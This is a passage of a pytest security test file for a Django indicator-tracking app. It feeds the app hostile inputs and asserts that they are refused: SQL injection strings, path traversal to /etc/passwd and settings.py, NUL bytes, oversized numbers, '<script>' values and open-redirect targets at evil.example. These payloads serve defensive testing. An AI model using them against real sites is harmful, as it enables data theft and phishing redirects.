    ("strategy-revision", lambda: reverse("strategy", args=[CODE]), "revision", ("404",)),
    ("compare-from", lambda: reverse("revision_compare", args=[CODE]), "from", ("404",)),
    ("population-year", lambda: reverse("population_entry", args=[CODE]), "year", ("200",)),
    ("export-year", lambda: reverse("excel_export_csv", args=[CODE]), "year", ("404",)),
    (
        "review-confirmed",
        lambda: reverse("review_pack", args=[CODE, OPEN_YEAR]),
        "confirmed",
        ("200",),
    ),
    (
        "api-fiscal-year",
        lambda: reverse("api-v1:list_indicators", args=[CODE]),
        "fiscal_year",
        ("422",),
    ),
]:
    case(f"sql-query-{_label}")(_sql_case(_url, _param, _allowed))


@case("sql-api-indicator-code")
def _(request, client):
    request.getfixturevalue("world")
    for text in SQL + ["1-ア-1-1' OR '1'='1"]:
        url = reverse("api-v1:list_indicators", args=[CODE]) + "/" + text
        ok(call(client, "GET", url)[0], "404", "422")  # 422: refused by the path pattern


@case("sql-confirm-actual-ids")
def _(request, client):
    w = request.getfixturevalue("world")
    login(client, w["users"]["bob"])
    url = reverse("status_confirm", args=[CODE, OPEN_YEAR])
    ok(call(client, "POST", url, {"actual": SQL + ["²", "9" * 30, "-1"]})[0], "302")
    w["actual"].refresh_from_db()
    assert w["actual"].status == Actual.Status.SUBMITTED  # nothing confirmed


def _sql_text_case(store):
    def run(request, client):
        w = request.getfixturevalue("world")
        for text in SQL:
            store(client, w, text)
        assert Actual.objects.exists()

    return run


def _opinion_text(client, w, text):
    login(client, w["users"]["charlie"])
    ok(call(client, "POST", _opinion_url(w), {"fiscal_year": OPEN_YEAR, "body": text})[0], "302")
    assert Opinion.objects.filter(body=text).exists()


def _note_text(client, w, text):
    login(client, w["users"]["alice"])
    ok(
        post_entry(
            client,
            w,
            code="1-ア-1-1",
            version=ind("1-ア-1-1").actuals.get(fiscal_year=OPEN_YEAR).version,
            value="25000",
            note=text,
        )[0],
        "302",
    )
    assert Actual.objects.filter(note=text).exists()


case("sql-text-opinion")(_sql_text_case(_opinion_text))
case("sql-text-entry-note")(_sql_text_case(_note_text))


# --- 10. paths, ids, redirects and other odd parameters ----------------------------------------


@case("path-negative-department-id")
def _(request, client):
    w = request.getfixturevalue("world")
    login(client, w["users"]["bob"])
    for prefix in ("entry", "excel/template", "excel/import"):
        url = f"/strategies/{CODE}/{prefix}/{OPEN_YEAR}/-{w['fisheries'].pk}/"
        ok(call(client, "GET", url)[0], "404")


@case("path-traversal-in-api-code")
def _(request, client):
    request.getfixturevalue("world")
    base = reverse("api-v1:list_indicators", args=[CODE])
    for tail in ("/..%2F..%2Fetc%2Fpasswd", "/%2e%2e%2f%2e%2e%2fsettings.py", "/....//"):
        ok(call(client, "GET", base + tail)[0], "404")
    ok(call(client, "GET", "/api/v1/strategies/..%2Fnemuro-2/indicators")[0], "404", "422")


@case("path-traversal-in-opinion-kind")
def _(request, client):
    w = request.getfixturevalue("world")
    login(client, w["users"]["charlie"])
    for kind in ("..", "%2e%2e", "user", "indicator%00"):
        url = f"/strategies/{CODE}/council/opinions/{kind}/{w['indicator'].pk}/new/"
        ok(call(client, "GET", url)[0], "400" if "%00" in kind else "404")  # NUL: guards.py


@case("path-unknown-strategy-code")
def _(request, client):
    w = request.getfixturevalue("world")
    login(client, w["users"]["dave"])
    for code in ("..", "nemuro-2%00", "x" * 300):
        want = "400" if "%00" in code else "404"  # a NUL is refused first (guards.py)
        ok(call(client, "GET", f"/strategies/{code}/dashboard/")[0], want)


@case("redirect-opinion-next-stays-on-site")
def _(request, client):
    w = request.getfixturevalue("world")
    login(client, w["users"]["charlie"])
    for target in ("//evil.example/", "https://evil.example/", JS_URL, "/\\evil.example"):
        data = {"fiscal_year": OPEN_YEAR, "body": "意見", "next": target}
        status, response = call(client, "POST", _opinion_url(w), data)
        ok(status, "302")
        assert response["Location"].startswith("/strategies/"), response["Location"]


@case("redirect-respond-next-stays-on-site")
def _(request, client):
    w = request.getfixturevalue("world")
    login(client, w["users"]["bob"])
    for target in ("//evil.example/", "https://evil.example/", JS_URL):
        status, response = call(client, "POST", _respond_url(w), {"body": "対応", "next": target})
        ok(status, "302")
        assert response["Location"].startswith("/strategies/"), response["Location"]


@case("redirect-login-next-stays-on-site")
def _(request, client):
    request.getfixturevalue("world")
    for target in ("https://evil.example/", "//evil.example", JS_URL):
        client.logout()
        data = {"username": "charlie", "password": "password", "next": target}
        status, response = call(client, "POST", "/login/", data)
        ok(status, "302")
        assert response["Location"] == "/", response["Location"]


@case("param-superscript-year-in-export")
def _(request, client):
    _query_case(request, client, reverse("excel_export_xlsx", args=[CODE]), {"year": "²"}, "404")


@case("param-superscript-year-in-opinion-form")
def _(request, client):
    w = request.getfixturevalue("world")
    for year in ("²", "9" * 30, "99999"):
        _query_case(request, client, _opinion_url(w), {"fiscal_year": year}, "200", user="charlie")


@case("param-superscript-year-in-population-entry")
def _(request, client):
    for year in ("²", "9" * 5000, "-1"):
        url = reverse("population_entry", args=[CODE])
        _query_case(request, client, url, {"year": year}, "200")


@case("param-dashboard-years")
def _(request, client):
    url = reverse("dashboard_overview", args=[CODE])
    for year in ("abc", "99999", "-1", "²", "1e309", "9" * 5000):
        _query_case(request, client, url, {"year": year}, "200", user="charlie")


@case("param-revision-numbers")
def _(request, client):
    for revision in ("x", "99999", "-1", "9" * 5000):
        _query_case(
            request, client, reverse("strategy", args=[CODE]), {"revision": revision}, "404"
        )
        url = reverse("revision_compare", args=[CODE])
        _query_case(request, client, url, {"from": revision, "to": "1"}, "404")


@case("param-restore-history-id")
def _(request, client):
    w = request.getfixturevalue("world")
    login(client, w["users"]["dave"])
    url = reverse("dashboard_restore_actual", args=[CODE, w["indicator"].pk])
    for history_id in ("x", "9" * 30, "-1", "²"):
        ok(call(client, "POST", url, {"history_id": history_id})[0], "404")


@case("param-revision-started-from-tampered")
def _(request, client):
    w = request.getfixturevalue("world")
    revision, change = request.getfixturevalue("draft_revision")
    login(client, w["users"]["dave"])
    url = reverse("revision_change", args=[CODE, revision.number, "indicator-target"])
    data = {
        "key": "1-ア-1-1",
        "target_value": "31000",
        "baseline_value": "23854",
        "target_fiscal_year": "2024",
        "effective_from_year": "2023",
        "version": str(change.version),
        "started_from": "{not json",
    }
    ok(call(client, "POST", url + "?key=1-ア-1-1", data)[0], "200")


@case("param-revision-huge-target")
def _(request, client):
    """A target the IndicatorTarget column cannot hold is refused, and publishing never crashes."""
    w = request.getfixturevalue("world")
    revision, change = request.getfixturevalue("draft_revision")
    login(client, w["users"]["dave"])
    url = reverse("revision_change", args=[CODE, revision.number, "indicator-target"])
    data = {
        "key": "1-ア-1-1",
        "target_value": "1" + "0" * 15,
        "baseline_value": "23854",
        "target_fiscal_year": "2024",
        "effective_from_year": "2023",
        "version": str(change.version),
    }
    status, response = call(client, "POST", url + "?key=1-ア-1-1", data)
    ok(status, "200")
    assert "12桁以内" in html_of(response)
    url = reverse("revision_publish", args=[CODE, revision.number])
    for confirm in ("", "x" * 10_000, "<script>", "１２３"):  # not the page's fingerprint
        ok(call(client, "POST", url, {"confirm": confirm})[0], "400" if not confirm else "409")
    assert Revision.objects.get(pk=revision.pk).is_draft
    page = html_of(call(client, "GET", url)[1])
    confirm = re.search(r'name="confirm" value="([0-9a-f]+)"', page).group(1)
    ok(call(client, "POST", url, {"confirm": confirm})[0], "302")


@case("param-council-never-sees-the-draft")
def _(request, client):
    """The draft value of the locked year reaches no page or export of a council member."""
    w = request.getfixturevalue("world")
    whole = int(DRAFT_VALUE)
    shown = {str(whole), f"{whole:,}"}  # at any scale: 98765.4321, 98,765, …
    urls = [
        reverse("excel_export_csv", args=[CODE]),
        reverse("review_pack", args=[CODE, LOCKED_YEAR]) + "?confirmed=0",
        reverse("dashboard_overview", args=[CODE]) + f"?year={LOCKED_YEAR}",
        reverse("dashboard_indicator", args=[CODE, ind("1-ア-1-2").pk]) + f"?year={LOCKED_YEAR}",
    ]
    for user, sees in (("charlie", False), ("bob", True)):  # bob: the check is not vacuous
        login(client, w["users"][user])
        for url in urls:
            status, response = call(client, "GET", url)
            ok(status, "200")
            body = response.content.decode("utf-8-sig")
            assert any(s in body for s in shown) == sees, (user, url)


# --- the runner (last: every case above is registered by now) ---------------------------------


@pytest.mark.parametrize("name", sorted(CASES))
def test_hostile_input(name, request, client):
    CASES[name](request, client)


def test_there_are_at_least_fifty_cases():
    assert len(CASES) >= 50
